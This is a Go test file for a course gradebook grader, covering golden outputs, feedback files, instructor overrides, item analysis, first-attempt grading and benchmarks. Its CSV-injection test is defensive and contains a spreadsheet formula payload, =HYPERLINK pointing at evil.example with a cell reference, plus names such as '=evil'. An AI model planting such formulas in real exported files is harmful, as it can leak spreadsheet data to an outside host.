package gradebook_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/coalescing-course/coalesce/grader/gradebook"
	"github.com/coalescing-course/coalesce/grader/gradebook/answers"
	"github.com/coalescing-course/coalesce/grader/gradebook/csvsafe"
	"github.com/coalescing-course/coalesce/grader/gradebook/intake"
	"github.com/coalescing-course/coalesce/grader/gradebook/report"
)

// TestGradebookGolden grades testdata/submissions (made by
// testdata/make_submissions.py) against the invented reference and
// compares the gradebook with testdata/golden/; -update rewrites it.
func TestGradebookGolden(t *testing.T) {
	gb, skipped := gradebook.GradeSamples(t)
	assert.Equal(t, []string{filepath.Join("testdata", "submissions", "README.txt")}, skipped)

	var csvOut, totals, js bytes.Buffer
	require.NoError(t, report.WriteCSV(gb, &csvOut))
	require.NoError(t, report.WriteTotalsCSV(gb, &totals))
	require.NoError(t, report.WriteJSON(gb, &js))
	gradebook.Golden(t, "testdata/golden/gradebook.csv", csvOut.String())
	gradebook.Golden(t, "testdata/golden/totals.csv", totals.String())
	gradebook.Golden(t, "testdata/golden/gradebook.json", js.String())
	gradebook.Golden(t, "testdata/golden/feedback-alan.md", report.Feedback(gb, "alan"))
	var items bytes.Buffer
	require.NoError(t, report.WriteItemsCSV(gb, &items))
	gradebook.Golden(t, "testdata/golden/item_analysis.csv", items.String())
	gradebook.Golden(t, "testdata/golden/summary.md", report.Summary(gb))
}

func TestWriteDir(t *testing.T) {
	gb, _ := gradebook.GradeSamples(t)
	dir := t.TempDir()
	require.NoError(t, report.WriteDir(gb, dir))
	for _, name := range []string{report.GradebookCSV, report.TotalsCSV, report.GradebookJSON} {
		assert.FileExists(t, filepath.Join(dir, name))
	}
	files := report.FeedbackFiles(gb)
	assert.Len(t, files, len(gb.Totals))
	assert.Equal(t, "ada.md", files["ada"])
	md, err := os.ReadFile(filepath.Join(dir, report.FeedbackDir, "ada.md"))
	require.NoError(t, err)
	assert.Contains(t, string(md), "# Feedback for ada")
	assert.Contains(t, string(md), "## 03-strided/sectors-stride-32: right, 1 of 1 point")

	f, err := os.Open(filepath.Join(dir, report.TotalsCSV))
	require.NoError(t, err)
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, report.TotalsHeader, recs[0])
	assert.Equal(t, report.PointsPossibleRow, recs[1][0], "the points possible come first")
	assert.Len(t, recs, 2+len(gb.Totals), "the header, the points possible, a row per learner")
}

func TestFeedbackFileNames(t *testing.T) {
	gb := &gradebook.Gradebook{Totals: []gradebook.Total{{Learner: "a/b"}, {Learner: "a b"}, {Learner: "A_B"}, {Learner: ".."}, {Learner: ""}, {Learner: strings.Repeat("x", 300)}}}
	names := report.FeedbackFiles(gb)
	assert.Equal(t, "a_b.md", names["a/b"])
	assert.Equal(t, "a_b-2.md", names["a b"])
	assert.Equal(t, "A_B-3.md", names["A_B"], "names differing in case only collide on some file systems")
	assert.Equal(t, "_..md", names[".."])
	assert.Equal(t, "_.md", names[""])
	assert.Len(t, names[strings.Repeat("x", 300)], 103)
}

// TestCSVInjection grades learners with gradebook.Hostile names and an unreadable
// prediction written as a formula, and reads every CSV back: no text cell
// starts with a formula character, each such name is written with a
// leading quote, and numbers (a negative prediction) stay numbers.
func TestCSVInjection(t *testing.T) {
	var subs []intake.Submission
	for i, name := range gradebook.Hostile {
		s := gradebook.Sub(name, "subs/"+strconv.Itoa(i)+"/03-strided.ipynb", map[string]float64{"03-strided/efficiency-stride-2": -0.5})
		s.Found.Calls = append(s.Found.Calls, answers.Call{Cell: 2, Line: 1, ID: "03-strided/sectors-stride-32", Arg: "=1+1", Form: answers.FormUnreadable, Problem: "a formula"})
		subs = append(subs, s)
	}
	gb := gradebook.GradeSubs(t, subs, gradebook.Options{Lessons: []string{"03-strided"}, Assignment: "@assignment"})
	outputs := map[string]func(*bytes.Buffer) error{
		report.GradebookCSV: func(b *bytes.Buffer) error { return report.WriteCSV(gb, b) },
		report.TotalsCSV:    func(b *bytes.Buffer) error { return report.WriteTotalsCSV(gb, b) },
		report.ItemsCSV:     func(b *bytes.Buffer) error { return report.WriteItemsCSV(gb, b) },
	}
	for name, write := range outputs {
		t.Run(name, func(t *testing.T) {
			var b bytes.Buffer
			require.NoError(t, write(&b))
			recs, err := csv.NewReader(&b).ReadAll()
			require.NoError(t, err)
			for _, rec := range recs {
				for _, f := range rec {
					if _, err := strconv.ParseFloat(f, 64); err == nil {
						continue // a number the gradebook wrote
					}
					assert.False(t, csvsafe.IsFormula(f), "cell %q of %q would run as a formula", f, rec)
				}
			}
		})
	}
	var b bytes.Buffer
	require.NoError(t, report.WriteCSV(gb, &b))
	raw := b.String()
	recs, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	learners := map[string]bool{}
	for _, rec := range recs[1:] {
		learners[rec[0]] = true
		if rec[2] == "03-strided/efficiency-stride-2" {
			assert.Equal(t, "-0.5", rec[4], "a negative prediction stays a number")
		}
		if rec[2] == "03-strided/sectors-stride-32" {
			assert.Equal(t, "'=1+1", rec[4], "the unreadable prediction as written, neutralised")
		}
	}
	for _, name := range gradebook.Hostile {
		assert.True(t, learners["'"+name], "%q written as '%s", name, name)
	}
	assert.Contains(t, raw, `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`, "escaped and quoted")
}

// TestFeedbackLayout: the feedback opens with the score and what to
// review; a right answer has no explanation, a wrong one has it collapsed.
func TestFeedbackLayout(t *testing.T) {
	subs := []intake.Submission{gradebook.Sub("<b>ada</b>", "ada/03-strided.ipynb", map[string]float64{"03-strided/sectors-stride-32": 32, "03-strided/efficiency-stride-2": 0.25})}
	gb := gradebook.GradeSubs(t, subs, gradebook.Options{Lessons: []string{"03-strided"}})
	fb := report.Feedback(gb, "<b>ada</b>")
	lines := strings.Split(fb, "\n")
	assert.Equal(t, "# Feedback for &lt;b&gt;ada&lt;/b&gt;", lines[0], "learner text is not HTML")
	// 1 of 4: sectors-stride-32 right (1 point) of 1 + 1 + 2.
	assert.Equal(t, "**Score: 1 of 4 points (25%)** on 03-strided.", lines[2])
	assert.Equal(t, "**Status: partial**: exercises: 1 missing.", lines[4], "the status second (issue 26)")
	assert.Equal(t, "To review: 03-strided/efficiency-stride-2 (wrong); 1 exercise without a prediction (lessons 03-strided).", lines[6])
	right, wrong, _ := strings.Cut(fb, "## 03-strided/efficiency-stride-2")
	assert.NotContains(t, right, "<details>", "no explanation for a right answer")
	assert.Contains(t, wrong, "<details><summary>Explanation</summary>")
	assert.Equal(t, 1, strings.Count(fb, "<details>"))
}

// TestFeedbackUnreadable: a learner whose only notebook cannot be read
// reads that at the top of their feedback, with the reason, before the
// exercises without a prediction (issue 26, 9).
func TestFeedbackUnreadable(t *testing.T) {
	const problem = "malformed JSON: line 3, column 9"
	bad := intake.Submission{Path: "subs/eve/03-strided.ipynb", Learner: "eve", IdentityFrom: intake.FromFolder, Lesson: "03-strided",
		Problem: problem, Flags: []intake.Flag{intake.FlagUnreadable}, Notes: []string{problem}}
	gb := gradebook.GradeSubs(t, []intake.Submission{bad}, gradebook.Options{Lessons: []string{"03-strided"}})
	lines := strings.Split(report.Feedback(gb, "eve"), "\n")
	assert.Equal(t, "**Status: unreadable**: 1 of 1 notebook could not be read; exercises: 3 missing.", lines[4])
	assert.Equal(t, "- Not read: subs/eve/03-strided.ipynb: "+problem, lines[6])
	assert.Contains(t, lines[8], "To review: 3 exercises without a prediction")
}

// TestOverrides: an override sets the points after grading, shows in the
// row's note and the feedback, survives a regrade, and a bad one is an
// error naming its line.
func TestOverrides(t *testing.T) {
	subs := []intake.Submission{
		gradebook.Sub("ada", "ada/03-strided.ipynb", map[string]float64{"03-strided/sectors-stride-32": 4}),
		gradebook.Sub("=evil", "evil/03-strided.ipynb", nil),
	}
	opt := gradebook.Options{Lessons: []string{"03-strided"}, Overrides: []gradebook.Override{
		{Learner: "ada", ID: "03-strided/sectors-stride-32", Points: 1, Reason: "counted warps, said so", File: "o.csv", Line: 2},
		{Learner: "'=evil", ID: "03-strided/slowdown-stride-32", Points: 1.5, File: "o.csv", Line: 3},
	}}
	gb := gradebook.GradeSubs(t, subs, opt)
	// ada: 4 is wrong (32 sectors), set to 1 of 1 by hand.
	tot := gradebook.TotalOf(t, gb, "ada")
	assert.Equal(t, 1.0, tot.Points)
	var row gradebook.Row
	for _, r := range gb.Rows {
		if r.Learner == "ada" && r.ID == "03-strided/sectors-stride-32" {
			row = r
		}
	}
	assert.Equal(t, gradebook.Wrong, row.Status, "the verdict stays the grader's")
	assert.Contains(t, row.Note, "points set by the instructor: 1 of 1 — counted warps, said so")
	assert.Contains(t, report.Feedback(gb, "ada"), "points set by the instructor: 1 of 1 — counted warps, said so")
	// The name as totals.csv shows it ('=evil) is the learner =evil.
	assert.Equal(t, 1.5, gradebook.TotalOf(t, gb, "=evil").Points)
	assert.Equal(t, 2, func() int {
		n := 0
		for _, it := range gb.Items {
			n += it.Overridden
		}
		return n
	}())

	t.Run("a regrade gives the same gradebook", func(t *testing.T) {
		var a, b bytes.Buffer
		require.NoError(t, report.WriteCSV(gb, &a))
		require.NoError(t, report.WriteCSV(gradebook.GradeSubs(t, subs, opt), &b))
		assert.Equal(t, a.String(), b.String())
	})

	bad := []struct {
		name string
		o    gradebook.Override
		err  string
	}{
		{"unknown learner", gradebook.Override{Learner: "nobody", ID: "03-strided/sectors-stride-32", Line: 7}, `line 7: learner "nobody" is not in the class`},
		{"an exercise of another lesson", gradebook.Override{Learner: "ada", ID: "01-sectors/sectors-float", Line: 7}, `line 7: exercise "01-sectors/sectors-float" is not an exercise of the lessons graded`},
		{"over the maximum", gradebook.Override{Learner: "ada", ID: "03-strided/sectors-stride-32", Points: 2, Line: 7}, "line 7: points 2 for 03-strided/sectors-stride-32: want 0 to 1"},
		{"negative", gradebook.Override{Learner: "ada", ID: "03-strided/sectors-stride-32", Points: -1, Line: 7}, "line 7: points -1 for 03-strided/sectors-stride-32: want 0 to 1"},
	}
	for _, tt := range bad {
		t.Run(tt.name, func(t *testing.T) {
			tt.o.File = "o.csv"
			_, err := gradebook.Grade(gradebook.TestGrader(t), subs, gradebook.Options{Lessons: []string{"03-strided"}, Overrides: []gradebook.Override{tt.o}, ModTime: gradebook.FixedModTime})
			require.Error(t, err)
			assert.Contains(t, err.Error(), "gradebook: overrides o.csv "+tt.err)
		})
	}
	t.Run("twice", func(t *testing.T) {
		o := gradebook.Override{Learner: "ada", ID: "03-strided/sectors-stride-32", File: "o.csv", Line: 2}
		o2 := o
		o2.Line = 5
		_, err := gradebook.Grade(gradebook.TestGrader(t), subs, gradebook.Options{Lessons: []string{"03-strided"}, Overrides: []gradebook.Override{o, o2}})
		require.Error(t, err)
		assert.Contains(t, err.Error(), "line 5: ada's 03-strided/sectors-stride-32 is already set on line 2")
	})
}

// TestItemAnalysis: four learners on 03-strided/sectors-stride-32 (32
// sectors): 1024 twice (bytes: 32 sectors × 32 bytes), 32 and 4; a fifth
// submits nothing for it.
func TestItemAnalysis(t *testing.T) {
	const id = "03-strided/sectors-stride-32"
	subs := []intake.Submission{
		gradebook.Sub("a", "a/03-strided.ipynb", map[string]float64{id: 1024}),
		gradebook.Sub("b", "b/03-strided.ipynb", map[string]float64{id: 1024}),
		gradebook.Sub("c", "c/03-strided.ipynb", map[string]float64{id: 32}),
		gradebook.Sub("d", "d/03-strided.ipynb", map[string]float64{id: 4}),
		gradebook.Sub("e", "e/03-strided.ipynb", nil),
	}
	gb := gradebook.GradeSubs(t, subs, gradebook.Options{Lessons: []string{"03-strided"}})
	var it gradebook.Item
	for _, i := range gb.Items {
		if i.ID == id {
			it = i
		}
	}
	assert.Equal(t, 5, it.Learners)
	assert.Equal(t, 4, it.Answered)
	assert.Equal(t, 1, it.Right)
	assert.Equal(t, 3, it.Wrong)
	assert.Equal(t, 1, it.Missing)
	require.NotNil(t, it.Median)
	assert.Equal(t, 528.0, *it.Median, "median of 4, 32, 1024, 1024: (32 + 1024) / 2")
	require.NotNil(t, it.CommonWrong)
	assert.Equal(t, 1024.0, *it.CommonWrong)
	assert.Equal(t, 2, it.CommonWrongCount)
	assert.Contains(t, it.Misconception, "counts bytes")
	assert.Contains(t, report.Summary(gb), "| "+id+" | 1 | 4 of 5 | 1 | 528 |")
}

// TestFirstAttempt grades lin's notebook (testdata/make_submissions.py)
// with and without -first-attempt. sectors-float holds 4 in the source
// (right: 32 lanes × 4 bytes = 128 bytes = 4 sectors of 32) and a record
// whose first attempt is 0 of 3 (wrong); sectors-byte holds 1 in both
// (32 lanes × 1 byte = 32 bytes, 1 sector: right either way);
// sectors-double holds the placeholder and has no record.
func TestFirstAttempt(t *testing.T) {
	g := gradebook.TestGrader(t)
	inputs, _, err := intake.Collect([]string{"testdata/submissions/lin"})
	require.NoError(t, err)
	subs := intake.Reader{Bank: g.Bank(), Limit: gradebook.TestLimit}.ReadAll(inputs, nil)
	for _, tt := range []struct {
		first    bool
		exercise string
		status   gradebook.Status
		attempts int
		firstVal *float64
	}{
		{false, "01-sectors/sectors-float", gradebook.Right, 3, gradebook.Ptr(0)},
		{true, "01-sectors/sectors-float", gradebook.Wrong, 3, gradebook.Ptr(0)},
		{false, "01-sectors/sectors-byte", gradebook.Right, 1, gradebook.Ptr(1)},
		{true, "01-sectors/sectors-byte", gradebook.Right, 1, gradebook.Ptr(1)},
		{true, "01-sectors/sectors-double", gradebook.Missing, 0, nil},
	} {
		t.Run(fmt.Sprintf("%s first-attempt=%v", tt.exercise, tt.first), func(t *testing.T) {
			gb, err := gradebook.Grade(g, subs, gradebook.Options{FirstAttempt: tt.first})
			require.NoError(t, err)
			var row *gradebook.Row
			for i := range gb.Rows {
				if gb.Rows[i].ID == tt.exercise {
					row = &gb.Rows[i]
				}
			}
			require.NotNil(t, row)
			assert.Equal(t, tt.status, row.Status)
			assert.Equal(t, tt.attempts, row.Attempts)
			assert.Equal(t, tt.firstVal, row.FirstAttempt)
			if tt.first && tt.attempts > 0 {
				assert.Contains(t, row.Note, "graded on the first attempt")
			}
			var out bytes.Buffer
			require.NoError(t, report.WriteCSV(gb, &out))
			recs, err := csv.NewReader(&out).ReadAll()
			require.NoError(t, err)
			n := len(report.GradebookHeader)
			assert.Equal(t, []string{"first_attempt", "attempts"}, recs[0][n-2:], "the new columns come last")
			for _, rec := range recs[1:] {
				if rec[2] == tt.exercise {
					want := ""
					if tt.attempts > 0 {
						want = fmt.Sprint(tt.attempts)
					}
					assert.Equal(t, want, rec[n-1])
				}
			}
		})
	}
}

// BenchmarkGrade2000 grades 2000 generated notebooks from disk to the
// written gradebook: reading, parsing, finding the calls, grading and
// writing every file. The answer keys are computed before the timer starts:
// they are a fixed cost of a run (seconds, mostly the model over the large
// gathers), the same for ten notebooks or ten thousand.
func BenchmarkGrade2000(b *testing.B) {
	dir := b.TempDir()
	gradebook.WriteBatch(b, dir, 2000)
	g := gradebook.TestGrader(b)
	inputs, _, err := intake.Collect([]string{dir})
	require.NoError(b, err)
	for _, e := range g.Bank().Questions {
		_, err := g.Key(e.ID)
		require.NoError(b, err)
	}
	out := b.TempDir()
	b.ResetTimer()
	for b.Loop() {
		subs := intake.Reader{Bank: g.Bank()}.ReadAll(inputs, nil)
		gb, err := gradebook.Grade(g, subs, gradebook.Options{})
		if err != nil {
			b.Fatal(err)
		}
		if err := report.WriteDir(gb, out); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(len(inputs))*float64(b.N)/b.Elapsed().Seconds(), "notebooks/s")
}

// BenchmarkGradeMemory85 grades a class of 85 generated notebooks, each
// with a 4 MiB saved plot, from disk, and reports the peak heap in use
// (sampled every millisecond), in MB: reading the notebooks (read-peak-MB)
// and the whole grading, answer keys included (peak-heap-MB). The bound is
// 300 MB; on 2026-12-01 it peaked at 230 MB (and `coalesce grade` on the
// same class at 228 MB of resident memory, /usr/bin/time -f %M), where it
// was 321 MB (356 MB) while each gather key drew its indices twice.
func BenchmarkGradeMemory85(b *testing.B) {
	dir := b.TempDir()
	gradebook.WriteBatch(b, dir, 85)
	plot := `{"output_type":"display_data","metadata":{},"data":{"image/png":"` + strings.Repeat("A", 4<<20) + `"}}`
	inputs, _, err := intake.Collect([]string{dir})
	require.NoError(b, err)
	for _, in := range inputs {
		data, err := os.ReadFile(in.Path)
		require.NoError(b, err)
		data = []byte(strings.Replace(string(data), `"outputs": []`, `"outputs": [`+plot+`]`, 1))
		require.NoError(b, os.WriteFile(in.Path, data, 0o644))
	}
	var readPeak, peak uint64
	for b.Loop() {
		g := gradebook.TestGrader(b)
		var subs []intake.Submission
		readPeak = max(readPeak, peakHeap(func() { subs = intake.Reader{Bank: g.Bank()}.ReadAll(inputs, nil) }))
		peak = max(peak, readPeak, peakHeap(func() {
			gb, err := gradebook.Grade(g, subs, gradebook.Options{})
			if err != nil {
				b.Fatal(err)
			}
			if err := report.WriteDir(gb, b.TempDir()); err != nil {
				b.Fatal(err)
			}
		}))
	}
	b.ReportMetric(float64(readPeak)/1e6, "read-peak-MB")
	b.ReportMetric(float64(peak)/1e6, "peak-heap-MB")
}

// peakHeap runs f and returns the most heap in use while it ran, sampled
// every millisecond.
func peakHeap(f func()) uint64 {
	runtime.GC()
	stop := make(chan struct{})
	sampled := make(chan uint64)
	go func() {
		var m runtime.MemStats
		var top uint64
		for {
			runtime.ReadMemStats(&m)
			top = max(top, m.HeapInuse)
			select {
			case <-stop:
				sampled <- top
				return
			case <-time.After(time.Millisecond):
			}
		}
	}()
	f()
	close(stop)
	return <-sampled
}
